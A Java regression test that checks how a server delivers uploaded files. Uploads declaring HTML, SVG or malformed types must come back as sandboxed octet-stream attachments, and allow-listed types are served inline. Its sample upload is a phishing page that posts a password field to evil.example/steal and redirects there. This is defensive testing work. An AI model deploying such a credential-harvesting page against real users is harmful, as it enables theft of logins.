package dev.stoa.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import dev.stoa.testing.ApiClient;
import dev.stoa.testing.ApiResponse;
import dev.stoa.testing.StoaTestBase;
import java.net.http.HttpRequest;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * What issue 30's outside probe found, one test each (each failed before its fix): the probe's
 * requests, made against a real server on a fresh database.
 */
class ProbeFindingsTest extends StoaTestBase {

    /** An upload whose multipart part declares the given content type. */
    static String upload(ApiClient c, String name, String declaredType, String body) {
        String boundary = "pr0beboundary";
        String payload = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"\r\n"
                + "Content-Type: " + declaredType + "\r\n\r\n" + body + "\r\n--" + boundary + "--\r\n";
        HttpRequest req = c.request("/api/v1/user_uploads").header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofString(payload)).build();
        return c.raw(req).success().get("url").asText();
    }

    /** The headers every upload answer carries, whatever its type. */
    static void assertGuarded(ApiResponse r, String what) {
        assertThat(r.status()).as(what).isEqualTo(200);
        assertThat(r.headers().firstValue("X-Content-Type-Options")).as(what).hasValue("nosniff");
        assertThat(r.headers().firstValue("Content-Security-Policy").orElse("")).as(what).contains("sandbox").contains("default-src 'none'");
    }

    /** Finding 1: a declared type never reaches the browser unless it is on the allow-list; the temporary URL the same. */
    @Test
    void uploadsAreServedAsTheServerDecides() {
        String page = "<html><form action=https://evil.example/steal><input name=password></form><meta http-equiv=refresh content='0;url=https://evil.example'></html>";
        for (String declared : List.of("image/png,text/html", "image/SVG+XML", "image/svg+xml", "text/html", "text/html; charset=utf-8",
                "application/xhtml+xml", "text/xml", "", "IMAGE/PNG , text/html")) {
            String url = upload(member, "probe.html", declared, page);
            ApiResponse direct = member.raw(member.request(url).GET().build());
            String temporary = member.get(url).success().get("url").asText();
            ApiResponse anonymousFetch = anonymous.raw(anonymous.request(temporary).GET().build());
            for (ApiResponse r : List.of(direct, anonymousFetch)) {
                assertGuarded(r, declared);
                assertThat(r.headers().firstValue("Content-Type")).as(declared).hasValue("application/octet-stream");
                assertThat(r.headers().firstValue("Content-Disposition").orElse("")).as(declared).startsWith("attachment;");
                assertThat(r.body()).isEqualTo(page);
            }
        }
        for (String declared : List.of("image/png", "IMAGE/PNG; name=x", "application/pdf", "video/mp4", "audio/mpeg")) {
            String url = upload(member, "fine.bin", declared, "bytes");
            String bare = declared.toLowerCase().split(";")[0];
            for (String path : List.of(url, member.get(url).success().get("url").asText())) {
                ApiResponse r = (path.contains("/temporary/") ? anonymous : member).raw(member.request(path).GET().build());
                assertGuarded(r, declared);
                assertThat(r.headers().firstValue("Content-Type")).as(declared).hasValue(bare);
                assertThat(r.headers().firstValue("Content-Disposition").orElse("")).as(declared).startsWith("inline;");
            }
        }
    }
}
